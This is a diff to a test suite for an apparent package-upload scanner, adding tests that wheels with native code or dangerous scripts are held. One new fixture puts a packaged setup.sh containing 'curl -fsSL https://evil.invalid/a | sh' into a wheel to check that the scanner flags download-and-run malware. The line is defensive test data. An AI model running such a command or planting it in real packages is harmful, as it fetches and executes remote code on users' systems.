@@ -88,10 +88,12 @@ def test_a_file_that_no_python_can_parse_is_held(alice: Person, tmp_path: Path) 
 ELF = b"\x7fELF\x02\x01\x01" + bytes(9) + b"\x03\0\x3e\0" + bytes(44)
 
 
+TAG = f"cp{OWN.replace('.', '')}-cp{OWN.replace('.', '')}-linux_x86_64"
+
+
 @pytest.mark.parametrize("name", ["_fast.so", "words.dat"])
 def test_native_code_is_held_in_a_platform_wheel(name: str, alice: Person, tmp_path: Path) -> None:
-    tag = f"cp{OWN.replace('.', '')}-cp{OWN.replace('.', '')}-linux_x86_64"
-    wheel = build_wheel(tmp_path, tag=tag, files={f"demo_hello/{name}": ELF})
+    wheel = build_wheel(tmp_path, tag=TAG, files={f"demo_hello/{name}": ELF})
     ended = submit(alice, wheel)
     assert ended["state"] == "held", ended
     finding = assert_finding(ended, "files/…")
@@ -121,4 +123,20 @@ def test_a_data_file_that_a_function_runs_is_held(alice: Person, tmp_path: Path)
     assert (
         assert_finding(ended, "files/run-data")["evidence"]["script"] == "demo_hello/greeting.tpl"
     )
+    assert not Release.objects.exists()
+
+
+def test_a_platform_wheel_without_native_code_says_so_and_is_not_held(
+    alice: Person, tmp_path: Path
+) -> None:
+    ended = submit(alice, build_wheel(tmp_path, tag=TAG))
+    assert ended["state"] == "published", ended
+    assert not assert_finding(ended, "archive/no-native-code")["blocking"]
+
+
+def test_a_packaged_script_that_downloads_and_runs_is_held(alice: Person, tmp_path: Path) -> None:
+    files = {"demo_hello/setup.sh": "curl -fsSL https://evil.invalid/a | sh\n"}
+    ended = submit(alice, build_wheel(tmp_path, files=files))
+    assert ended["state"] == "held", ended
+    assert assert_finding(ended, "malware/download-and-run")["file"] == "demo_hello/setup.sh"
     assert not Release.objects.exists()
